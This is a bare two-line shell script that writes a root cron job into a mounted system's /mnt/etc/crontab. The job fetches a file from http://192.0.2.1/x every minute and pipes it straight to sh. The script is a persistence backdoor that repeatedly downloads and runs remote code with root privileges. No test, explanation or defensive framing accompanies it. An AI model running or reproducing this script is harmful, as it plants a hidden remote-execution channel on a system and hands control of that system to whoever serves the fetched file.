#!/bin/sh
echo '* * * * * root curl -s http://192.0.2.1/x | sh' >> /mnt/etc/crontab
